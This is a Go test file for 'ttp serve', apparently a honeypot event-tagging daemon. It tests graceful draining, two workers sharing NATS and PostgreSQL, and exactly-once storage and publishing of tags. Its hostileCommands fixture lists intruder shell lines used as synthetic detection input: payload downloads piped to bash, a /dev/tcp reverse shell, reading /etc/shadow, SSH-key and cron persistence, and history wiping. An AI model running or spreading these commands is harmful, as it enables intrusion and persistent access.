package main

// Process-level tests of `ttp serve`: the real binary, built once per test binary, run as a
// child process on a test's own NATS (internal/natstest) and data directory. This file holds
// the harness (binary, daemon processes, bus and store checks) and the tests of draining,
// two workers on one bus, dead letters and configuration precedence; crash_test.go holds the
// crash test.

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"

	"github.com/decnet/ttp/abi"
	"github.com/decnet/ttp/bus"
	"github.com/decnet/ttp/internal/natstest"
	"github.com/decnet/ttp/store"
	"github.com/decnet/ttp/store/storetest"
)

// The binary under test, built on first use and removed when the test binary ends.
var (
	binOnce sync.Once
	binDir  string
	binPath string
	binErr  error
)

func TestMain(m *testing.M) {
	code := m.Run()
	if binDir != "" {
		os.RemoveAll(binDir)
	}
	os.Exit(code)
}

// ttpBinary builds this package once and returns the binary's path. It is built with the tag
// ttpfault, which gives it the crash test's injection points (internal/fault, driven by
// TTP_FAULT); an ordinary build has none.
func ttpBinary(t testing.TB) string {
	t.Helper()
	binOnce.Do(func() {
		if binDir, binErr = os.MkdirTemp("", "ttp-bin-"); binErr != nil {
			return
		}
		binPath = filepath.Join(binDir, "ttp")
		start := time.Now()
		out, err := exec.Command("go", "build", "-tags", "ttpfault", "-o", binPath, "./").CombinedOutput()
		if err != nil {
			binErr = fmt.Errorf("go build: %v\n%s", err, out)
			return
		}
		t.Logf("built %s in %v", binPath, time.Since(start).Round(time.Millisecond))
	})
	if binErr != nil {
		t.Fatal(binErr)
	}
	return binPath
}

// childEnv is the test's environment without TTP_* variables (a developer's TTP_NATS must not
// leak into a child), plus extra.
func childEnv(extra ...string) []string {
	var env []string
	for _, kv := range os.Environ() {
		if !strings.HasPrefix(kv, "TTP_") {
			env = append(env, kv)
		}
	}
	return append(env, extra...)
}

// copyRules copies the shipped rule files into dir/rules, so that a rule edited in the work
// tree while a test runs cannot make the daemon and `ttp tag` disagree.
func copyRules(t testing.TB, dir string) string {
	t.Helper()
	dst := filepath.Join(dir, "rules")
	if err := os.MkdirAll(dst, 0o755); err != nil {
		t.Fatal(err)
	}
	files, err := filepath.Glob(filepath.Join(rulesDir, "R*.yaml"))
	if err != nil || len(files) == 0 {
		t.Fatalf("no rules in %s: %v", rulesDir, err)
	}
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dst, filepath.Base(f)), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dst
}

// freeAddr returns a loopback address with a port free at the time of the call.
func freeAddr(t testing.TB) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	return ln.Addr().String()
}

// daemon is one `ttp serve` child process. Its stderr (the log) is kept line by line with the
// time each line arrived, so tests can wait for a line and measure when it came.
type daemon struct {
	t       testing.TB
	name    string
	cmd     *exec.Cmd
	metrics string // address of /metrics, "" when disabled
	done    chan struct{}

	mu    sync.Mutex
	lines []logLine
	state *os.ProcessState
}

type logLine struct {
	at   time.Time
	text string
}

type daemonOpts struct {
	name    string // worker name (--name) and log label
	data    string // --data
	nats    string // --nats
	rules   string // --rules
	store   string // --store, "" for DATA/ttp.db
	metrics bool   // --metrics on a free port, else ""
	// noMetrics passes no --metrics flag at all, leaving it to the environment or --config.
	noMetrics bool
	args      []string
	env       []string
}

// startDaemon starts `ttp serve` and returns once it logged "ttp serve running".
func startDaemon(t testing.TB, o daemonOpts) *daemon {
	t.Helper()
	d := launchDaemon(t, o)
	if _, ok := d.waitLine("ttp serve running", 60*time.Second); !ok {
		t.Fatalf("%s did not start:\n%s", d.name, d.tail(40))
	}
	return d
}

// launchDaemon starts `ttp serve` without waiting for it.
func launchDaemon(t testing.TB, o daemonOpts) *daemon {
	t.Helper()
	args := []string{"serve", "--data", o.data, "--plugins", filepath.Join(o.data, "no-plugins"), "--log-level", "info"}
	if o.nats != "" {
		args = append(args, "--nats", o.nats)
	}
	if o.rules != "" {
		args = append(args, "--rules", o.rules)
	}
	if o.name != "" {
		args = append(args, "--name", o.name)
	}
	if o.store != "" {
		args = append(args, "--store", o.store)
	}
	d := &daemon{t: t, name: o.name, done: make(chan struct{})}
	if o.metrics {
		d.metrics = freeAddr(t)
		args = append(args, "--metrics", d.metrics)
	} else if !o.noMetrics && !slices.Contains(o.args, "--metrics") {
		args = append(args, "--metrics", "")
	}
	args = append(args, o.args...)
	d.cmd = exec.Command(ttpBinary(t), args...)
	d.cmd.Env = childEnv(o.env...)
	stderr, err := d.cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := d.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() {
		sc := bufio.NewScanner(stderr)
		sc.Buffer(make([]byte, 64<<10), 1<<20)
		for sc.Scan() {
			d.mu.Lock()
			d.lines = append(d.lines, logLine{time.Now(), sc.Text()})
			d.mu.Unlock()
		}
		io.Copy(io.Discard, stderr)
		d.cmd.Wait()
		d.mu.Lock()
		d.state = d.cmd.ProcessState
		d.mu.Unlock()
		close(d.done)
	}()
	t.Cleanup(func() {
		if !d.exited() {
			d.cmd.Process.Kill()
			<-d.done
		}
		if t.Failed() {
			t.Logf("log of %s (pid %d), last lines:\n%s", d.name, d.cmd.Process.Pid, d.tail(30))
		}
	})
	return d
}

func (d *daemon) exited() bool {
	select {
	case <-d.done:
		return true
	default:
		return false
	}
}

// waitLine waits for a log line containing every one of parts.
func (d *daemon) waitLine(part string, timeout time.Duration, more ...string) (logLine, bool) {
	parts := append([]string{part}, more...)
	deadline := time.Now().Add(timeout)
	for {
		d.mu.Lock()
		for _, l := range d.lines {
			if containsAll(l.text, parts) {
				d.mu.Unlock()
				return l, true
			}
		}
		d.mu.Unlock()
		if time.Now().After(deadline) || d.exited() && !d.hasLine(parts) {
			return logLine{}, false
		}
		time.Sleep(5 * time.Millisecond)
	}
}

func (d *daemon) hasLine(parts []string) bool {
	d.mu.Lock()
	defer d.mu.Unlock()
	for _, l := range d.lines {
		if containsAll(l.text, parts) {
			return true
		}
	}
	return false
}

func containsAll(s string, parts []string) bool {
	for _, p := range parts {
		if !strings.Contains(s, p) {
			return false
		}
	}
	return true
}

func (d *daemon) tail(n int) string {
	d.mu.Lock()
	defer d.mu.Unlock()
	var b strings.Builder
	for _, l := range d.lines[max(0, len(d.lines)-n):] {
		b.WriteString(l.text)
		b.WriteByte('\n')
	}
	return b.String()
}

func (d *daemon) signal(sig os.Signal) {
	d.t.Helper()
	if err := d.cmd.Process.Signal(sig); err != nil && !d.exited() {
		d.t.Fatalf("%s: signal %v: %v", d.name, sig, err)
	}
}

// wait waits for the process to exit and returns its state, or nil after timeout.
func (d *daemon) wait(timeout time.Duration) *os.ProcessState {
	select {
	case <-d.done:
		d.mu.Lock()
		defer d.mu.Unlock()
		return d.state
	case <-time.After(timeout):
		return nil
	}
}

// stop sends SIGTERM and requires a clean exit (status 0) within timeout.
func (d *daemon) stop(timeout time.Duration) time.Duration {
	d.t.Helper()
	start := time.Now()
	d.signal(syscall.SIGTERM)
	st := d.wait(timeout)
	took := time.Since(start)
	if st == nil {
		d.t.Fatalf("%s: no exit %v after SIGTERM", d.name, timeout)
	}
	if !st.Exited() || st.ExitCode() != 0 {
		d.t.Fatalf("%s: after SIGTERM: %v, want exit status 0", d.name, st)
	}
	// A clean stop says so, and its own drain is no disconnection to warn about.
	if _, ok := d.waitLine("ttp serve stopped", time.Second); !ok {
		d.t.Errorf("%s: no \"ttp serve stopped\" line after a clean stop", d.name)
	}
	if d.hasLine([]string{"nats disconnected", "err=<nil>"}) {
		d.t.Errorf("%s: a clean stop warned \"nats disconnected err=<nil>\"", d.name)
	}
	return took
}

// metric reads one unlabelled counter or gauge from the daemon's /metrics.
func (d *daemon) metric(name string) (float64, error) {
	if d.metrics == "" {
		return 0, errors.New("metrics disabled")
	}
	c := http.Client{Timeout: 2 * time.Second}
	resp, err := c.Get("http://" + d.metrics + "/metrics")
	if err != nil {
		return 0, err
	}
	defer resp.Body.Close()
	sc := bufio.NewScanner(resp.Body)
	sc.Buffer(make([]byte, 64<<10), 1<<20)
	for sc.Scan() {
		if v, ok := strings.CutPrefix(sc.Text(), name+" "); ok {
			return strconv.ParseFloat(strings.TrimSpace(v), 64)
		}
	}
	return 0, fmt.Errorf("no metric %s", name)
}

// testBus is a test's own NATS with JetStream, which every daemon of the test joins.
type testBus struct {
	url string
	nc  *nats.Conn
	js  jetstream.JetStream
}

func newTestBus(t testing.TB) *testBus {
	t.Helper()
	srv := natstest.Start(t)
	nc, _ := srv.Connect(t)
	js, err := jetstream.New(nc, jetstream.WithPublishAsyncMaxPending(4096))
	if err != nil {
		t.Fatal(err)
	}
	if err := bus.Streams(context.Background(), js, bus.Config{}); err != nil {
		t.Fatal(err)
	}
	return &testBus{url: srv.ClientURL(), nc: nc, js: js}
}

// publish puts events on their input subjects and waits for JetStream to have them all.
func (b *testBus) publish(evs []testEvent) error {
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	var futures []jetstream.PubAckFuture
	for i, ev := range evs {
		f, err := b.js.PublishMsgAsync(&nats.Msg{Subject: ev.subject, Data: ev.data})
		if err != nil {
			return fmt.Errorf("publish event %d: %w", i, err)
		}
		futures = append(futures, f)
		if len(futures) == 1024 || i == len(evs)-1 {
			if err := waitAcks(ctx, futures); err != nil {
				return err
			}
			futures = futures[:0]
		}
	}
	return nil
}

// publishRaw publishes one message on subject and waits for its ack.
func (b *testBus) publishRaw(t testing.TB, subject string, data []byte) {
	t.Helper()
	if _, err := b.js.Publish(context.Background(), subject, data); err != nil {
		t.Fatal(err)
	}
}

// consumer returns the shared durable consumer's info, or nil before a worker created it.
func (b *testBus) consumer(ctx context.Context) (*jetstream.ConsumerInfo, error) {
	c, err := b.js.Consumer(ctx, bus.DefaultInStream, bus.DefaultDurable)
	if errors.Is(err, jetstream.ErrConsumerNotFound) {
		return nil, nil
	}
	if err != nil {
		return nil, err
	}
	return c.Info(ctx)
}

// waitAcked waits until the workers acked every message of the input stream: the consumer
// (stream DECNET, durable ttp-workers) has delivered up to the stream's last message and has
// nothing pending and nothing awaiting an ack.
func (b *testBus) waitAcked(t testing.TB, timeout time.Duration) time.Duration {
	t.Helper()
	ctx := context.Background()
	start := time.Now()
	var last string
	for {
		s, err := b.js.Stream(ctx, bus.DefaultInStream)
		if err != nil {
			t.Fatal(err)
		}
		si, err := s.Info(ctx)
		if err != nil {
			t.Fatal(err)
		}
		ci, err := b.consumer(ctx)
		if err != nil {
			t.Fatal(err)
		}
		if ci != nil {
			last = fmt.Sprintf("stream last seq %d; consumer delivered %d, ack floor %d, pending %d, ack pending %d, redelivered %d",
				si.State.LastSeq, ci.Delivered.Stream, ci.AckFloor.Stream, ci.NumPending, ci.NumAckPending, ci.NumRedelivered)
			if ci.NumPending == 0 && ci.NumAckPending == 0 && ci.AckFloor.Stream >= si.State.LastSeq {
				return time.Since(start)
			}
		}
		if time.Since(start) > timeout {
			t.Fatalf("not everything acked after %v: %s", timeout, last)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// expireAckPending makes the messages a killed worker held redeliverable now rather than
// after the daemon's 30 s AckWait (which `ttp serve` has no flag for): it lowers the
// consumer's AckWait while no worker runs, lets the server's pending timer move them to its
// redelivery queue, and leaves the next worker to restore its own AckWait. What the next
// worker sees is exactly what it would see 30 s later.
func (b *testBus) expireAckPending(t testing.TB) {
	t.Helper()
	ctx := context.Background()
	c, err := b.js.Consumer(ctx, bus.DefaultInStream, bus.DefaultDurable)
	if err != nil {
		t.Fatal(err)
	}
	ci, err := c.Info(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if ci.NumAckPending == 0 {
		return
	}
	cfg := ci.Config
	cfg.AckWait = 20 * time.Millisecond
	if _, err := b.js.UpdateConsumer(ctx, bus.DefaultInStream, cfg); err != nil {
		t.Fatal(err)
	}
	time.Sleep(250 * time.Millisecond) // the server re-arms its pending timer at 100 ms
}

// output is what the output stream TTP holds.
type output struct {
	envelopes []bus.Envelope
	fired     []firedMsg
	dead      []bus.DeadLetter
}

type firedMsg struct {
	subject string
	fired   bus.Fired
}

// readOutput reads the whole output stream (envelopes, rule.fired and dead letters).
func (b *testBus) readOutput(t testing.TB) output {
	t.Helper()
	out, err := b.tryReadOutput()
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// tryReadOutput is readOutput returning its error, for a caller that may retry (a cluster
// whose leaders are moving).
func (b *testBus) tryReadOutput() (output, error) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	s, err := b.js.Stream(ctx, bus.DefaultOutStream)
	if err != nil {
		return output{}, err
	}
	cons, err := s.OrderedConsumer(ctx, jetstream.OrderedConsumerConfig{
		FilterSubjects: []string{bus.SubjectTagged, bus.SubjectFiredPrefix + ">", bus.SubjectDeadLetter}})
	if err != nil {
		return output{}, err
	}
	info, err := cons.Info(ctx)
	if err != nil {
		return output{}, err
	}
	total := int(info.NumPending)
	var out output
	for n := 0; n < total; {
		batch, err := cons.Fetch(min(total-n, 1000), jetstream.FetchMaxWait(5*time.Second))
		if err != nil {
			return output{}, err
		}
		got := 0
		for m := range batch.Messages() {
			got++
			switch subj := m.Subject(); {
			case subj == bus.SubjectTagged:
				var e bus.Envelope
				if err := json.Unmarshal(m.Data(), &e); err != nil {
					return output{}, fmt.Errorf("envelope: %w", err)
				}
				out.envelopes = append(out.envelopes, e)
			case subj == bus.SubjectDeadLetter:
				var dl bus.DeadLetter
				if err := json.Unmarshal(m.Data(), &dl); err != nil {
					return output{}, fmt.Errorf("dead letter: %w", err)
				}
				out.dead = append(out.dead, dl)
			default:
				var f bus.Fired
				if err := json.Unmarshal(m.Data(), &f); err != nil {
					return output{}, fmt.Errorf("rule.fired: %w", err)
				}
				out.fired = append(out.fired, firedMsg{subj, f})
			}
		}
		if err := batch.Error(); err != nil && !errors.Is(err, nats.ErrTimeout) {
			return output{}, err
		}
		if got == 0 {
			return output{}, fmt.Errorf("read %d of %d output messages", n, total)
		}
		n += got
	}
	return out, nil
}

// testEvent is one upstream event as published.
type testEvent struct {
	subject string
	kind    string
	id      string
	data    []byte
	// sources are the source_ids its tags can carry: its own and, for a session, those of
	// the command events fanned out of it.
	sources []string
}

func (e testEvent) upstream() string { return e.kind + ":" + e.id }

// eventSet is a generated, deterministic stream of events.
type eventSet struct {
	events     []testEvent
	upstreamOf map[string]string // tag source_id -> upstream key kind:id
}

func (s *eventSet) add(ev testEvent) {
	if s.upstreamOf == nil {
		s.upstreamOf = map[string]string{}
	}
	s.events = append(s.events, ev)
	for _, src := range ev.sources {
		s.upstreamOf[src] = ev.upstream()
	}
}

// writeJSONL writes the events, one a line, for `ttp tag`.
func (s *eventSet) writeJSONL(t testing.TB, path string) {
	t.Helper()
	var b bytes.Buffer
	for _, ev := range s.events {
		b.Write(ev.data)
		b.WriteByte('\n')
	}
	if err := os.WriteFile(path, b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}

// Commands caught by decky shells: what people and bots type that fires nothing, and what
// fires one or several rules (%[1]s is an address, %[2]s a name, so evidence differs).
var (
	benignCommands = []string{"ls -la", "pwd", "cd /var/www/html && git status", "echo hello", "clear", "exit",
		"df -h", "cat notes.txt", "vim config.yml", "ping -c 1 8.8.8.8", "cd ~", "ls", "echo $SHELL", "env | wc -l"}
	hostileCommands = []string{
		"uname -a",
		"uname -a; cat /etc/shadow",
		"cat /proc/cpuinfo | grep name | wc -l",
		"cd /tmp; wget http://%[1]s/x86_64 -O .%[2]s; chmod +x .%[2]s; ./.%[2]s",
		"curl -s http://%[1]s/xmr.sh | bash",
		`echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC%[2]s root@srv" >> ~/.ssh/authorized_keys`,
		"history -c; rm -f ~/.bash_history",
		"whoami; id",
		"ifconfig; netstat -an",
		"nproc; free -m",
		`(crontab -l; echo "* * * * * /tmp/.%[2]s") | crontab -`,
		"iptables -F; service iptables stop",
		"pkill -9 -f kdevtmpfsi; rm -rf /tmp/kdevtmpfsi",
		"/bin/busybox %[2]s",
		"bash -i >& /dev/tcp/%[1]s/4444 0>&1",
		"useradd -m -s /bin/bash %[2]s; echo '%[2]s:pass' | chpasswd",
		"ps aux",
		"ls /tmp",
		"cd /tmp; wget http://%[1]s/%[2]s; chmod 777 %[2]s; ./%[2]s; uname -a; whoami; cat /proc/cpuinfo; history -c",
	}
)

// genEvents makes n events from rng: mostly command events (two in three benign), some
// sessions carrying 2 to 8 commands (strings, and objects with their own id).
func genEvents(n int, rng *rand.Rand, idPrefix string) *eventSet {
	set := &eventSet{}
	t0 := time.Date(2026, 11, 27, 0, 0, 0, 0, time.UTC)
	attackers := make([]string, 40)
	for i := range attackers {
		attackers[i] = fmt.Sprintf("%08x-%04x-4%03x-8%03x-%012x", rng.Uint32(), rng.IntN(1<<16), rng.IntN(1<<12), rng.IntN(1<<12), rng.Uint64()&(1<<48-1))
	}
	command := func() string {
		if rng.IntN(3) > 0 {
			return benignCommands[rng.IntN(len(benignCommands))]
		}
		c := hostileCommands[rng.IntN(len(hostileCommands))]
		ip := fmt.Sprintf("%d.%d.%d.%d", 1+rng.IntN(222), rng.IntN(256), rng.IntN(256), 1+rng.IntN(254))
		name := fmt.Sprintf("k%x", rng.Uint32())
		if strings.Contains(c, "%") {
			c = fmt.Sprintf(c, ip, name)
		}
		return c
	}
	for i := 0; i < n; i++ {
		attacker := rng.IntN(len(attackers))
		head := map[string]any{
			"attacker_uuid": attackers[attacker],
			"session_id":    fmt.Sprintf("%s%04x", idPrefix, attacker*97+i/50),
			"decky_id":      fmt.Sprintf("ssh-%s-%02d", []string{"fra", "ams", "sgp", "iad"}[attacker%4], attacker%7),
			"observed_at":   t0.Add(time.Duration(i) * 1500 * time.Millisecond).Format(time.RFC3339Nano),
		}
		ev := testEvent{}
		if rng.IntN(12) == 0 {
			ev.kind, ev.subject = abi.KindSession, bus.SubjectFor(bus.DefaultPrefix, abi.KindSession)
			ev.id = fmt.Sprintf("%ssess-%06d", idPrefix, i)
			ev.sources = []string{ev.id}
			var cmds []any
			for k := range 2 + rng.IntN(7) {
				if rng.IntN(4) == 0 {
					id := fmt.Sprintf("%s-cmd-%d", ev.id, k)
					cmds = append(cmds, map[string]any{"id": id, "text": command()})
					ev.sources = append(ev.sources, id)
				} else {
					cmds = append(cmds, command())
					ev.sources = append(ev.sources, fmt.Sprintf("%s#%d", ev.id, k))
				}
			}
			head["payload"] = map[string]any{"commands": cmds, "duration_ms": 1000 + rng.IntN(60000), "client_version": "SSH-2.0-Go"}
		} else {
			ev.kind, ev.subject = abi.KindCommand, bus.SubjectFor(bus.DefaultPrefix, abi.KindCommand)
			ev.id = fmt.Sprintf("%scmd-%06d", idPrefix, i)
			ev.sources = []string{ev.id}
			head["payload"] = map[string]any{"command_text": command()}
		}
		head["source_kind"], head["source_id"] = ev.kind, ev.id
		var err error
		if ev.data, err = json.Marshal(head); err != nil {
			panic(err)
		}
		set.add(ev)
	}
	return set
}

// offlineTags runs `ttp tag` (the built-in engine, no plugins) over a JSONL file: what the
// daemon must have stored once, and published once, for those events.
func offlineTags(t testing.TB, rules, file string) []abi.Tag {
	t.Helper()
	cmd := exec.Command(ttpBinary(t), "tag", "--rules", rules, "--plugins", filepath.Join(filepath.Dir(file), "no-plugins"), file)
	cmd.Env = childEnv()
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("ttp tag: %v\n%s", err, stderr.String())
	}
	var tags []abi.Tag
	dec := json.NewDecoder(bytes.NewReader(out))
	for {
		var tg abi.Tag
		if err := dec.Decode(&tg); err == io.EOF {
			break
		} else if err != nil {
			t.Fatalf("ttp tag output: %v", err)
		}
		if tg.TagUUID == "" {
			continue // the summary line ({"ttp_ingest": ...}) that ends the output
		}
		tags = append(tags, tg)
	}
	return tags
}

// tally is what a check found, the figures the tests log.
type tally struct {
	events, taggedUpstreams, tags     int
	rows, distinctRows                int
	lost, extra, duplicated           int // tags: expected not stored, stored not expected, rows over distinct
	unpublished                       int
	envelopes, distinctEnvelopes      int
	missingEnvelopes, envelopeDups    int
	fired, distinctFired, missingFire int
}

// checkExactlyOnce compares the store and the output stream with the tags `ttp tag` gave:
// every expected tag stored once and published (marked), one envelope per tagged upstream
// event holding its tags, one rule.fired message per upstream event and technique.
func checkExactlyOnce(t testing.TB, st store.Store, out output, set *eventSet, want []abi.Tag) tally {
	t.Helper()
	ctx := context.Background()
	r := tally{events: len(set.events), tags: len(want)}
	shown := 0
	detail := func(format string, args ...any) { // the first few of a systematic failure
		if shown++; shown <= 10 {
			t.Errorf(format, args...)
		}
	}
	wantUp := map[string]string{} // tag_uuid -> upstream
	wantFired := map[string]bool{}
	for _, tg := range want {
		up, ok := set.upstreamOf[tg.SourceID]
		if !ok {
			t.Fatalf("ttp tag: tag of unknown source %q", tg.SourceID)
		}
		wantUp[tg.TagUUID] = up
		wantFired[up+" "+bus.FiredSubject(&tg)] = true
	}
	upstreams := map[string]bool{}
	for _, up := range wantUp {
		upstreams[up] = true
	}
	r.taggedUpstreams = len(upstreams)

	stored, err := st.Tags(ctx, store.Filter{})
	if err != nil {
		t.Fatal(err)
	}
	n, err := st.Count(ctx)
	if err != nil {
		t.Fatal(err)
	}
	r.rows = int(n)
	have := map[string]bool{}
	for _, tg := range stored {
		have[tg.TagUUID] = true
	}
	r.distinctRows = len(have)
	r.duplicated = r.rows - r.distinctRows
	for id := range wantUp {
		if !have[id] {
			r.lost++
		}
	}
	for id := range have {
		if _, ok := wantUp[id]; !ok {
			r.extra++
		}
	}
	for up := range upstreams {
		kind, id, _ := strings.Cut(up, ":")
		un, err := st.Unpublished(ctx, kind, id)
		if err != nil {
			t.Fatal(err)
		}
		r.unpublished += len(un)
	}

	envTags := map[string]int{}
	envs := map[string]int{}
	for _, e := range out.envelopes {
		up := e.SourceKind + ":" + e.SourceID
		envs[up]++
		for _, tg := range e.Tags {
			envTags[tg.TagUUID]++
			if wantUp[tg.TagUUID] != up {
				detail("envelope of %s holds tag %s of %q", up, tg.TagUUID, wantUp[tg.TagUUID])
			}
		}
	}
	r.envelopes, r.distinctEnvelopes = len(out.envelopes), len(envs)
	r.envelopeDups = r.envelopes - r.distinctEnvelopes
	for up := range upstreams {
		if envs[up] == 0 {
			r.missingEnvelopes++
		}
	}
	for id := range wantUp {
		if envTags[id] != 1 {
			detail("tag %s of %s is in %d envelopes, want 1", id, wantUp[id], envTags[id])
		}
	}
	fired := map[string]int{}
	for _, f := range out.fired {
		fired[f.fired.SourceKind+":"+f.fired.SourceID+" "+f.subject]++
	}
	r.fired, r.distinctFired = len(out.fired), len(fired)
	for k := range wantFired {
		if fired[k] == 0 {
			r.missingFire++
		}
	}

	if r.rows != len(want) || r.lost != 0 || r.extra != 0 || r.duplicated != 0 {
		t.Errorf("store: %d rows (%d distinct), want %d: %d lost, %d not expected, %d duplicated", r.rows, r.distinctRows, len(want), r.lost, r.extra, r.duplicated)
	}
	if r.unpublished != 0 {
		t.Errorf("%d tags left unpublished", r.unpublished)
	}
	if r.envelopes != r.taggedUpstreams || r.envelopeDups != 0 || r.missingEnvelopes != 0 || r.distinctEnvelopes != r.taggedUpstreams {
		t.Errorf("ttp.tagged: %d envelopes, %d distinct, want one for each of %d tagged events: %d missing, %d duplicated",
			r.envelopes, r.distinctEnvelopes, r.taggedUpstreams, r.missingEnvelopes, r.envelopeDups)
	}
	if r.fired != len(wantFired) || r.distinctFired != len(wantFired) || r.missingFire != 0 {
		t.Errorf("ttp.rule.fired: %d messages, %d distinct, want %d (%d missing)", r.fired, r.distinctFired, len(wantFired), r.missingFire)
	}
	return r
}

// TestSIGTERMDrains: SIGTERM while events flow; the daemon exits 0 within --drain-timeout, and
// the daemon started again on the same data finishes the events with nothing lost or doubled.
func TestSIGTERMDrains(t *testing.T) {
	const nEvents, drain = 3000, 5 * time.Second
	dir := t.TempDir()
	rules := copyRules(t, dir)
	set := genEvents(nEvents, rand.New(rand.NewPCG(2, 2)), "")
	file := filepath.Join(dir, "events.jsonl")
	set.writeJSONL(t, file)
	want := offlineTags(t, rules, file)
	b := newTestBus(t)
	opts := daemonOpts{name: "w1", data: filepath.Join(dir, "data"), nats: b.url, rules: rules, metrics: true,
		args: []string{"--batch", "64", "--drain-timeout", drain.String()}}
	d := startDaemon(t, opts)

	pub := make(chan error, 1)
	go func() { pub <- b.publish(set.events) }()
	// Events are flowing: the worker acked some, far from all.
	for start := time.Now(); ; time.Sleep(5 * time.Millisecond) {
		if n, _ := d.metric("ttp_bus_acked_total"); n >= nEvents/10 {
			t.Logf("SIGTERM after %.0f acks", n)
			break
		}
		if time.Since(start) > 30*time.Second {
			t.Fatal("the worker acked nothing in 30 s")
		}
	}
	took := d.stop(drain + 5*time.Second)
	t.Logf("exited 0 %v after SIGTERM (drain timeout %v)", took.Round(time.Millisecond), drain)
	if took > drain {
		t.Errorf("exit took %v, over the drain timeout %v", took, drain)
	}
	if _, ok := d.waitLine("shutting down: draining", 0); !ok {
		t.Error(`no "shutting down: draining" log line`)
	}
	if l, ok := d.waitLine("drain timeout", 0); ok {
		t.Errorf("drain timed out: %s", l.text)
	}
	if err := <-pub; err != nil {
		t.Fatal(err)
	}
	ci, err := b.consumer(context.Background())
	if err != nil || ci == nil {
		t.Fatalf("consumer: %v", err)
	}
	t.Logf("after the exit: %d messages delivered and not acked (handed back or abandoned), %d not delivered", ci.NumAckPending, ci.NumPending)

	// The restarted worker finishes the rest. A drained worker finished its in-flight batch
	// and handed back what it had buffered (nak), so the rest comes at once, not after the
	// consumer's 30 s AckWait.
	opts.name = "w1-again"
	d = startDaemon(t, opts)
	rec := b.waitAcked(t, 2*time.Minute)
	t.Logf("after the restart, everything acked in %v", rec.Round(time.Millisecond))
	if rec > 10*time.Second {
		t.Errorf("the restarted worker took %v to finish: messages the SIGTERMed worker had taken were neither acked nor handed back (nak), "+
			"so they waited out the consumer's 30 s AckWait (the drain cancels the in-flight batch and abandons the buffered messages)", rec.Round(time.Millisecond))
	}
	d.stop(drain + 5*time.Second)
	st, err := store.Open(context.Background(), filepath.Join(opts.data, "ttp.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	r := checkExactlyOnce(t, st, b.readOutput(t), set, want)
	t.Logf("events %d, tagged %d, tags %d, rows %d, envelopes %d, lost %d, duplicated %d",
		r.events, r.taggedUpstreams, r.tags, r.rows, r.envelopes, r.lost, r.duplicated+r.envelopeDups)
}

// TestTwoWorkersOneBus: two daemons share one NATS and one PostgreSQL store; each event is
// tagged, stored and published once between them, and a rule state set through either is
// applied by both within 2 s.
func TestTwoWorkersOneBus(t *testing.T) {
	pg := storetest.PostgresURL(t)
	const nEvents = 2000
	dir := t.TempDir()
	rules := copyRules(t, dir)
	set := genEvents(nEvents, rand.New(rand.NewPCG(3, 3)), "")
	file := filepath.Join(dir, "events.jsonl")
	set.writeJSONL(t, file)
	want := offlineTags(t, rules, file)
	b := newTestBus(t)
	var ws []*daemon
	for _, name := range []string{"wa", "wb"} {
		ws = append(ws, startDaemon(t, daemonOpts{name: name, data: filepath.Join(dir, name), nats: b.url, rules: rules,
			store: pg, metrics: true, args: []string{"--batch", "64", "--inflight", "256"}}))
	}
	if err := b.publish(set.events); err != nil {
		t.Fatal(err)
	}
	took := b.waitAcked(t, 2*time.Minute)
	var share []string
	for _, w := range ws {
		n, err := w.metric("ttp_bus_acked_total")
		if err != nil {
			t.Fatal(err)
		}
		share = append(share, fmt.Sprintf("%s %.0f", w.name, n))
	}
	t.Logf("%d events acked in %v; acks by worker: %s", nEvents, took.Round(time.Millisecond), strings.Join(share, ", "))
	st, err := store.Open(context.Background(), pg)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	r := checkExactlyOnce(t, st, b.readOutput(t), set, want)
	t.Logf("events %d, tagged %d, tags %d, rows %d, envelopes %d, lost %d, duplicated %d",
		r.events, r.taggedUpstreams, r.tags, r.rows, r.envelopes, r.lost, r.duplicated+r.envelopeDups)

	// A state change through the control subject, answered by one of the two.
	before := time.Now()
	out, err := exec.Command(ttpBinary(t), "rules", "state", "R0001", "--disable", "--reason", "test", "--nats", b.url).CombinedOutput()
	if err != nil {
		t.Fatalf("ttp rules state --disable: %v\n%s", err, out)
	}
	replied := time.Since(before)
	var slowest time.Duration
	for _, w := range ws {
		l, ok := w.waitLine(`msg="rule state"`, 5*time.Second, "rule=R0001", "state=disabled")
		if !ok {
			t.Fatalf("%s never applied the state change", w.name)
		}
		lag := l.at.Sub(before)
		slowest = max(slowest, lag)
		t.Logf("%s applied R0001 disabled %v after the request", w.name, lag.Round(time.Millisecond))
	}
	t.Logf("state propagation: reply in %v, both workers in %v", replied.Round(time.Millisecond), slowest.Round(time.Millisecond))
	if slowest > 2*time.Second {
		t.Errorf("state change reached both workers after %v, want within 2 s", slowest)
	}
	// Whichever worker answers, the state is disabled.
	for range 6 {
		out, err := exec.Command(ttpBinary(t), "rules", "state", "R0001", "--nats", b.url).CombinedOutput()
		if err != nil || !strings.Contains(string(out), `"state":"disabled"`) {
			t.Fatalf("ttp rules state R0001: %v: %s", err, out)
		}
	}
	// And both tag without R0001: events that fire R0001 and R0024, spread over both workers.
	var after []testEvent
	for i := range 200 {
		id := fmt.Sprintf("after-%03d", i)
